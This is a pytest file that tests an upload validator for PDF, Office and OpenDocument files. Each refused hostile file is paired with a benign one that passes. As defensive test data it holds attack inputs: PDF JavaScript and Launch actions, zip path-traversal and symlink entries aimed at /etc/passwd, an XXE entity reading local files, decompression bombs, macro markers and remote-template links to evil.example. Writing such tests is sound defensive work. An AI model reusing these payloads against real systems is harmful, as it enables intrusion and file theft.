"""Each document that is refused is tested beside the nearest one that passes."""

import random
import re
import stat
import zipfile

import pytest

from publishing.uploads.office import is_remote
from tests.publishing import hostile_files as files
from tests.publishing.uploading import check, refusal

# Bytes that do not shrink, to keep an archive below the ratio that is refused.
NOISE = random.Random(7).randbytes(1024 * 1024)


def test_pdf_after_a_mark_of_encoding_is_accepted():
    assert check("a.pdf", files.pdf(head=b"\xef\xbb\xbf\r\n")).extension == "pdf"


def test_pdf_with_a_compressed_object_stream_is_accepted():
    assert check("a.pdf", files.pdf(files.object_stream(b"3 0 <</Type/Page>>"))).extension == "pdf"


def test_pdf_cut_short_is_refused():
    assert refusal("a.pdf", files.pdf()[:60]) == "damaged"


def test_pdf_with_a_password_is_refused():
    assert refusal("a.pdf", files.pdf().replace(b"trailer<<", b"trailer<</Encrypt 9 0 R")) == "password"


@pytest.mark.parametrize(
    "harmful",
    [
        b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        b"<</S/J#61va#53cript/JS(x)>>",
        b"<</S/J#61v#61Script/JS(x)>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</Type/EmbeddedFile/Length 0>>",
        b"<</Names<</EmbeddedFiles 5 0 R>>>>",
        b"<</Subtype/RichMedia>>",
    ],
)
def test_pdf_that_can_act_is_refused(harmful):
    assert refusal("a.pdf", files.pdf(harmful)) == "unsafe"
    assert refusal("a.pdf", files.pdf(files.object_stream(b"3 0 " + harmful))) == "unsafe"


def test_pdf_second_object_stream_is_looked_at_too():
    good, bad = files.object_stream(b"3 0 <<>>"), files.object_stream(b"4 0 <</S/Launch>>")
    assert refusal("a.pdf", files.pdf(good, bad)) == "unsafe"


def test_pdf_that_hides_a_part_of_an_object_stream_is_refused():
    stream = files.object_stream(b"3 0 <</S/Launch>>").replace(b"endstream", b"")
    assert refusal("a.pdf", files.pdf(stream)) == "damaged"
    assert refusal("a.pdf", files.pdf(files.object_stream(b"3 0 endstream <<>>", level=0))) == "damaged"


def test_pdf_of_very_many_object_streams_is_read_in_time():
    empty = files.object_stream(b"")
    assert check("a.pdf", files.pdf(*[empty] * 20_000))


def test_pdf_with_an_unreadable_object_stream_is_refused():
    assert refusal("a.pdf", files.pdf(b"<</Type/ObjStm>>stream\nnot packed\nendstream")) == "damaged"


def test_pdf_bomb_in_object_streams_is_refused():
    assert refusal("a.pdf", files.pdf(files.object_stream(bytes(60 * 1024 * 1024)))) == "unpacked"


def test_document_bomb_is_refused():
    assert check("a.docx", files.office(word__media=bytes(90 * 1024 * 1024), word__noise=NOISE))
    assert (
        refusal("a.docx", files.office(word__media=bytes(101 * 1024 * 1024), word__noise=NOISE)) == "unpacked"
    )


def test_document_that_shrank_too_well_is_refused():
    assert check("a.docx", files.office(word__media=bytes(9 * 1024 * 1024)))
    assert refusal("a.docx", files.office(word__media=bytes(12 * 1024 * 1024))) == "unpacked"


def test_document_with_a_huge_list_of_relations_is_refused():
    rels = b"<r>" + bytes(range(97, 123)) * 410_000 + b"</r>"
    assert refusal("a.docx", files.office_with({"word/_rels/a.rels": rels, "noise": NOISE})) == "unpacked"
    assert check("a.docx", files.office_with({"word/a.xml": rels, "noise": NOISE}))


def test_document_of_12_000_parts_is_refused():
    assert refusal("a.docx", files.office_with({f"p{number}": "" for number in range(12_000)})) == "unpacked"
    assert check("a.docx", files.office_with({f"p{number}": "" for number in range(1_000)}))


def test_document_with_overlapping_parts_is_refused():
    content = bytearray(files.office_with({"media": bytes(range(256)) * 40}))
    # The size claimed in the directory for the last part is made larger than the whole file.
    place = content.rfind(b"PK\x01\x02")
    content[place + 20 : place + 24] = len(content).to_bytes(4, "little")
    assert refusal("a.docx", bytes(content)) == "unpacked"


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/x", "/etc/passwd", "word/../../x", "C:\\x.dll", "..\\x", "a\x00.xml"]
)
def test_document_with_a_part_that_leads_outside_is_refused(name):
    entry = zipfile.ZipInfo("placeholder")
    entry.filename = name
    assert refusal("a.docx", files.office_with({entry: b"x"})) == "unsafe"


def test_document_with_dots_inside_a_part_name_is_accepted():
    assert check("a.docx", files.office_with({"word/a..b.xml": "<a/>"}))


def test_document_with_a_symbolic_link_is_refused():
    entry = zipfile.ZipInfo("word/link")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    assert refusal("a.docx", files.office_with({entry: "/etc/passwd"})) == "unsafe"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", ["word/extra.xml", "word/_rels/extra.rels", "word/extra.vml"])
def test_document_with_a_dtd_is_refused(name, encoding):
    dtd = files.DTD.decode().replace('"1.0"', f'"1.0" encoding="{encoding}"').encode(encoding)
    assert refusal("a.docx", files.office_with({name: dtd})) == "unsafe"


def test_document_with_a_dtd_in_its_content_types_is_refused():
    types = files.content_types().replace("?>", '?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
    content = files.archive({"[Content_Types].xml": types, "word/document.xml": "<a/>"})
    assert refusal("a.docx", content) == "unsafe"


def test_document_with_a_broken_part_is_refused():
    assert refusal("a.docx", files.office(**{"word__extra.xml": "<a><b></a>"})) == "damaged"


def test_document_with_a_careless_drawing_is_accepted():
    assert check("a.xlsx", files.office("xlsx", **{"xl__drawing.vml": "<xml><br></xml>"}))


def test_document_cut_short_is_refused():
    content = files.office()
    assert refusal("a.docx", content[: len(content) // 2]) == "damaged"


def test_document_whose_bytes_were_changed_is_refused():
    content = files.archive(
        {"[Content_Types].xml": files.content_types(), "word/document.xml": "<a/>", "word/media": b"picture"},
        compression=zipfile.ZIP_STORED,
    )
    assert refusal("a.docx", content.replace(b"picture", b"pocture")) == "damaged"


def test_document_with_the_same_part_twice_is_refused():
    assert refusal("a.docx", files.office_with({"word/DOCUMENT.xml": "<other/>"})) == "damaged"


def test_document_packed_in_a_way_office_does_not_know_is_refused():
    parts = {"[Content_Types].xml": files.content_types(), "word/document.xml": "<a/>"}
    assert refusal("a.docx", files.archive(parts, compression=zipfile.ZIP_BZIP2)) == "damaged"


@pytest.mark.parametrize(
    "parts",
    [
        {"word__vbaProject.bin": b"x"},
        {"word__vbaData.xml": b"<a/>"},
        {"word__activeX__activeX1.xml": b"<a/>"},
        {"word__embeddings__report.xlsm": b"x"},
        {"more_types": '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'},
        {"more_types": '<Default Extension="dat" ContentType="application/vnd.ms-office.&#118;baProject"/>'},
        {"more_types": '<Override PartName="/a" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'},
        {"more_types": '<Override PartName="/a" ContentType="x.document.macroEnabled.main+xml"/>'},
    ],
)
def test_document_with_macros_is_refused(parts):
    assert refusal("a.docx", files.office(**parts)) == "macros"


def test_document_named_as_one_with_macros_is_told_so():
    assert refusal("a.docm", files.office()) == "macros"


def test_document_with_a_program_inside_is_refused():
    assert refusal("a.docx", files.office(word__media__image1=files.PROGRAM)) == "unsafe"


def test_document_with_a_file_packed_inside_is_refused():
    packed = files.OLE + "\x01Ole10Native".encode("utf-16-le")
    assert refusal("a.docx", files.office(**{"word__embeddings__ole.bin": packed})) == "unsafe"
    assert check("a.docx", files.office(**{"word__embeddings__equation.bin": files.OLE}))


def test_document_with_a_password_is_refused():
    assert refusal("a.docx", files.OLE_WITH_PASSWORD) == "password"


def test_archive_with_encrypted_parts_is_refused():
    content = bytearray(files.office())
    for place in [found.start() for found in re.finditer(b"PK\x01\x02", bytes(content))]:
        content[place + 8] |= 1
    assert refusal("a.docx", bytes(content)) == "password"


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "externalLinkPath"])
def test_document_that_fetches_from_elsewhere_is_refused(kind):
    rels = {"word___rels__document.xml.rels": files.relationship(kind, "https://evil.example/t.dotm")}
    assert refusal("a.docx", files.office(**rels)) == "remote"


def test_document_with_links_and_a_local_template_is_accepted():
    rels = files.relationship("hyperlink", "https://www.gov.kg/")
    template = files.relationship("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")
    inner = files.relationship("image", "media/image1.png", "Internal")
    assert check(
        "a.docx", files.office(**{"word__a.rels": rels, "word__b.rels": template, "word__c.rels": inner})
    )


@pytest.mark.parametrize(
    ("target", "remote"),
    [
        ("https://evil.example/a", True),
        (" HTTPS://evil.example/a", True),
        ("mhtml:http://evil.example/a!x", True),
        ("\\\\evil\\share\\a.dotm", True),
        ("//evil/share/a.dotm", True),
        ("file://evil/share/a.dotm", True),
        ("file:////evil/share/a.dotm", True),
        ("file:\\\\evil\\share", True),
        ("vnd.sun.star.script:x", True),
        ("file:///C:/Users/a/Normal.dotm", False),
        ("C:\\Users\\a\\Normal.dotm", False),
        ("../Templates/a.ott", False),
        ("Pictures/a:b.png", False),
        ("", False),
    ],
)
def test_target_is_remote(target, remote):
    assert is_remote(target) is remote


def test_open_document_that_fetches_from_elsewhere_is_refused():
    assert check("a.odt", files.odt('<text:a xlink:href="https://www.gov.kg/"/>'))
    assert check("a.odt", files.odt('<draw:image xlink:href="Pictures/a.png"/>'))
    assert refusal("a.odt", files.odt('<draw:image xlink:href="https://evil.example/a.png"/>')) == "remote"


def test_open_document_with_macros_is_refused():
    assert refusal("a.odt", files.odt(Basic__Standard__Module1="x")) == "macros"


def test_open_document_with_a_password_is_refused():
    manifest = "<m:manifest><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
    assert refusal("a.odt", files.odt(manifest=manifest)) == "password"
